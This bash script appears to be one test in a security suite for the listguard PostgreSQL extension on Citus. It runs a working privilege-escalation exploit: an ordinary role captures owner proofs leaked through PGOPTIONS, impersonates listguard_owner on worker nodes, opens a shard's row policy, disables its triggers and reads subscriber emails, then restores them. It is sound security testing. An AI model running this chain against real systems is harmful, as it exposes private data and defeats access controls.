#!/usr/bin/env bash
# 51 — Citus: an ordinary role captures a listguard_owner proof made by
# listguard's own elevated code.
#
# Tries: offer_citus_proof() runs from the planner hook and the utility hook
# and puts into PGOPTIONS (process-wide) proofs for GetUserId(), plus one for
# listguard_owner when that role is a superuser or admin. listguard's own
# elevated SPI (run_elevated(): SetUserIdAndSecContext to the extension
# owner, a superuser) plans statements too, so any call that goes through it
# (here listguard.cancel(-1), a request_gate function open to PUBLIC, which
# fails after planning its SPI) leaves PGOPTIONS holding proofs for the
# superuser and listguard_owner until the caller's next plan. A connection
# Citus opens later in the same statement (master_run_on_worker() to a fake
# server, its port computed by a pg_temp plpgsql function that calls cancel()
# first; called once before, so that it plans nothing as outsider after)
# carries them. Replayed to a worker as listguard_owner with the captured
# application_name, the DDL guard treats the session as Citus: open the
# shard's row policy to every role and disable its triggers (recorded as
# protection_changed citus_internal, but done).
# Secure outcome: the captured packet holds a proof for outsider only;
#   listguard_owner's login with it is refused (28000).
set -u
cd "$(dirname "$0")"
. ./citus_env.sh
citus_env_up
read -r shard node < <(shard_of 10)
grab="CREATE FUNCTION pg_temp.grab() RETURNS int LANGUAGE plpgsql AS \$f\$
BEGIN
  BEGIN PERFORM listguard.cancel(-1); EXCEPTION WHEN others THEN NULL; END;
  RETURN 0;
END \$f\$;
SELECT pg_temp.grab(); -- plpgsql plans its statements on the first call: later calls plan nothing as outsider
SELECT * FROM master_run_on_worker(ARRAY['127.0.0.1'], ARRAY[$FAKE_PORT + pg_temp.grab()], ARRAY['select 1'], false)"
read -r plain pgpid < <(capture_proof)
read -r proof gpid < <(capture_proof "$grab")
echo "outsider's plain capture: $(echo "$plain" | tr ',' '\n' | wc -l) proof(s)"
echo "outsider's capture after listguard.cancel(): $(echo "$proof" | tr ',' '\n' | grep -c .) proof(s), gpid=$gpid"
[ -n "$proof" ] || { echo "RESULT: held (no proof captured)"; exit 0; }
as_citus() { PGAPPNAME="citus_internal gpid=$gpid" PGOPTIONS="-c listguard.citus_proof=$proof -c search_path=public" at "$@"; }
echo "listguard_owner, plain capture: $(PGAPPNAME="citus_internal gpid=$pgpid" PGOPTIONS="-c listguard.citus_proof=$plain" at "$node" -U listguard_owner -c "SELECT current_user" 2>&1 | head -1)"
login=$(as_citus "$node" -U listguard_owner -c "SELECT current_user" 2>&1 | head -1)
echo "listguard_owner with the elevated capture: $login"
other=worker1; [ "$node" = worker1 ] && other=worker2
echo "  on $other and the coordinator too: $(as_citus "$other" -U listguard_owner -c "SELECT current_user" 2>&1 | head -1), $(as_citus coordinator -U listguard_owner -c "SELECT current_user" 2>&1 | head -1)"
before=$(at coordinator -c "SELECT max(id) FROM listguard.audit_log")
seen_before=$(at "$node" -U outsider -c "SELECT count(*) FROM $shard")
as_citus "$node" -U listguard_owner -c "ALTER POLICY listguard_read ON $shard USING (true)" \
    -c "ALTER TABLE $shard DISABLE TRIGGER ALL" 2>&1
seen_after=$(at "$node" -U outsider -c "SELECT count(*) FROM $shard")
via_coord=$(at coordinator -U outsider -c "SELECT count(*) FROM subs")
sample=$(at coordinator -U outsider -c "SELECT email FROM subs WHERE list_id = 10 ORDER BY id LIMIT 2" | tr '\n' ' ')
sleep 3
events=$(at coordinator -c "SELECT string_agg(kind || coalesce(' ' || origin, ''), ', ') FROM listguard.audit_log WHERE id > $before")
echo "outsider rows in $shard: before $seen_before, after $seen_after; through the coordinator: $via_coord ($sample)"
echo "events recorded since: ${events:-none}"
at "$node" -c "ALTER POLICY listguard_read ON $shard USING (listguard.can_read(account_id, list_id, email))" \
    -c "ALTER TABLE $shard ENABLE TRIGGER ALL" >/dev/null
case "$login" in
listguard_owner)
    echo "RESULT: FINDING (H): outsider captures a listguard_owner proof left in PGOPTIONS by listguard's elevated SPI; rows opened: $seen_before -> $seen_after" ;;
*) echo "RESULT: held" ;;
esac
